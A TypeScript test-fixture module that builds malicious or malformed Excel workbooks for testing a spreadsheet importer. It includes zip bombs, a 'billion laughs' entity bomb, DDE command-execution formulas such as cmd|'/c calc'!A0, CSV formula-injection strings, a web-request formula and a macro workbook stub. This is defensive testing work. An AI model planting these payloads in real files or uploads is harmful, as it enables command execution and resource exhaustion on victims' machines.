/** Workbooks that must not be believed. */

import { escapeXml, OFFICE_RELS, type Parts, workbookBytes, xlsxBytes, xlsxParts } from "../xlsx-bytes.ts";
import { repeatedEntry, zipBytes, zipEntry } from "../zip-bytes.ts";
import { ROSTER_COLUMNS, rosterRows, rosterSheet } from "./base-files.ts";
import { cfbBytes } from "./cfb-bytes.ts";

const SHEET = "xl/worksheets/sheet1.xml";
const NAME_COLUMN = ROSTER_COLUMNS.indexOf("姓名");
const NOTE_COLUMN = ROSTER_COLUMNS.indexOf("备注");

/** What Office 2010 and later write for "encrypt with password": [MS-OFFCRYPTO] 2.3.4.10, agile encryption. */
export function encryptedWorkbook(): Buffer {
  const descriptor =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>';
  const version = Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]);
  return cfbBytes([
    { name: "EncryptionInfo", content: Buffer.concat([version, Buffer.from(descriptor, "utf8")]) },
    { name: "EncryptedPackage", content: noise(12_000) },
  ]);
}

/** The container of an .xls of Excel 97 to 2003: not encrypted, only old. */
export function legacyXls(): Buffer {
  const beginningOfFile = Buffer.from("0908100000060500bb0dcc07c100000006030000", "hex");
  const endOfFile = Buffer.from("0a000000", "hex");
  return cfbBytes([{ name: "Workbook", content: Buffer.concat([beginningOfFile, endOfFile]) }]);
}

const MIB = 1 << 20;

/** Two GiB of blanks behind two MB, with honest headers. */
export function zipBomb(): Buffer {
  return bomb(2047 * MIB);
}

/** The same, but the headers state 4 kB: whoever trusts them unpacks it all. */
export function lyingZipBomb(): Buffer {
  return bomb(4096);
}

function bomb(statedSize: number): Buffer {
  const parts = xlsxParts([rosterSheet()]);
  parts.delete(SHEET);
  const entries = [...parts].map(([name, content]) => zipEntry(name, content));
  return zipBytes([...entries, repeatedEntry(SHEET, Buffer.alloc(MIB, 0x20), 2047, statedSize)]);
}

/** Entities that grow tenfold nine times over ("billion laughs") inside a sheet. */
export function entityBomb(): Buffer {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
  const doctype = `<!DOCTYPE worksheet [<!ENTITY e0 "衡">${levels.join("")}]>`;
  const parts = xlsxParts([rosterSheet()]);
  const sheet = text(parts, SHEET).replace("<worksheet", `${doctype}<worksheet`);
  parts.set(
    SHEET,
    sheet.replace("</row></sheetData>", '<c t="inlineStr"><is><t>&e9;</t></is></c></row></sheetData>'),
  );
  return workbookBytes(parts);
}

/** One row of people, then formatted but empty rows to the last one Excel can hold (1,048,576). */
export function millionEmptyRows(): Buffer {
  const rows = rosterRows();
  const parts = xlsxParts([rosterSheet(rows)]);
  const empty: string[] = [];
  for (let r = rows.length + 2; r <= 1_048_576; r++) empty.push(`<row r="${r}"><c r="A${r}" s="1"/></row>`);
  const sheet = text(parts, SHEET)
    .replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>')
    .replace("</sheetData>", () => `${empty.join("")}</sheetData>`);
  parts.set(SHEET, sheet);
  return workbookBytes(parts);
}

/** Live formulas in place of a name and a note, among them one into another workbook, a DDE call and a web request. */
export function formulas(): Buffer {
  const rows = rosterRows();
  rows[0]![NAME_COLUMN] = { formula: 'CONCATENATE("甲","一")', cached: "甲一" };
  rows[1]![NOTE_COLUMN] = { formula: "[1]工资!$B$7", cached: "8800" };
  rows[2]![NOTE_COLUMN] = { formula: "cmd|'/c calc'!A0", cached: "#REF!" };
  rows[3]![NOTE_COLUMN] = { formula: 'WEBSERVICE("http://example.invalid/"&D2)', cached: "" };
  const parts = xlsxParts([rosterSheet(rows)]);
  addExternalLink(parts);
  return workbookBytes(parts);
}

/** No formula anywhere, but texts that become one when the file is exported as CSV and opened again. */
export function formulaLikeText(): Buffer {
  const rows = rosterRows();
  const payloads = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    '=HYPERLINK("http://example.invalid")',
  ];
  payloads.forEach((payload, i) => {
    rows[i]![NOTE_COLUMN] = payload;
  });
  return xlsxBytes([rosterSheet(rows)]);
}

function addExternalLink(parts: Parts): void {
  const target = "xl/externalLinks/externalLink1.xml";
  const type = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml";
  amend(
    parts,
    "[Content_Types].xml",
    "</Types>",
    `<Override PartName="/${target}" ContentType="${type}"/></Types>`,
  );
  amend(
    parts,
    "xl/_rels/workbook.xml.rels",
    "</Relationships>",
    `<Relationship Id="rIdExt" Type="${OFFICE_RELS}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
  );
  amend(
    parts,
    "xl/workbook.xml",
    "</workbook>",
    '<externalReferences><externalReference r:id="rIdExt"/></externalReferences></workbook>',
  );
  parts.set(
    target,
    `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE_RELS}"><externalBook r:id="rId1"><sheetNames><sheetName val="工资"/></sheetNames></externalBook></externalLink>`,
  );
  parts.set(
    "xl/externalLinks/_rels/externalLink1.xml.rels",
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE_RELS}/externalLinkPath" Target="${escapeXml("file:///\\\\server\\share\\工资.xlsx")}" TargetMode="External"/></Relationships>`,
  );
}

/** A workbook with a VBA project, as .xlsm; also handed out under the name .xlsx. */
export function macroWorkbook(): Buffer {
  const parts = xlsxParts([rosterSheet()]);
  const main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
  amend(parts, "[Content_Types].xml", main, "application/vnd.ms-excel.sheet.macroEnabled.main+xml");
  amend(
    parts,
    "[Content_Types].xml",
    "</Types>",
    '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
  );
  amend(
    parts,
    "xl/_rels/workbook.xml.rels",
    "</Relationships>",
    '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
  );
  parts.set(
    "xl/vbaProject.bin",
    cfbBytes([{ name: "PROJECT", content: Buffer.from('ID="{0}"\r\nModule=Auto_Open\r\n') }]),
  );
  return workbookBytes(parts);
}

/** A download that broke off: the central directory is gone. */
export function truncatedZip(): Buffer {
  const whole = xlsxBytes([rosterSheet()]);
  return whole.subarray(0, Math.floor(whole.length * 0.6));
}

/** The archive is whole, one compressed byte is not. */
export function corruptZip(): Buffer {
  const whole = Buffer.from(xlsxBytes([rosterSheet()]));
  const at = whole.indexOf(SHEET) + SHEET.length + 40;
  whole.writeUInt8((whole.readUInt8(at) ^ 0xff) & 0xff, at);
  return whole;
}

/** A zip, but of something else. */
export function zipWithoutWorkbook(): Buffer {
  return zipBytes([zipEntry("照片/合影.txt", "这不是表格")]);
}

function amend(parts: Parts, name: string, find: string, put: string): void {
  parts.set(
    name,
    text(parts, name).replace(find, () => put),
  );
}

function text(parts: Parts, name: string): string {
  const part = parts.get(name);
  if (typeof part !== "string") throw new Error(`The workbook has no text part ${name}.`);
  return part;
}

/** Bytes without pattern, the same every time (xorshift32). */
function noise(length: number): Buffer {
  const out = Buffer.alloc(length);
  let x = 0x9e3779b9;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}
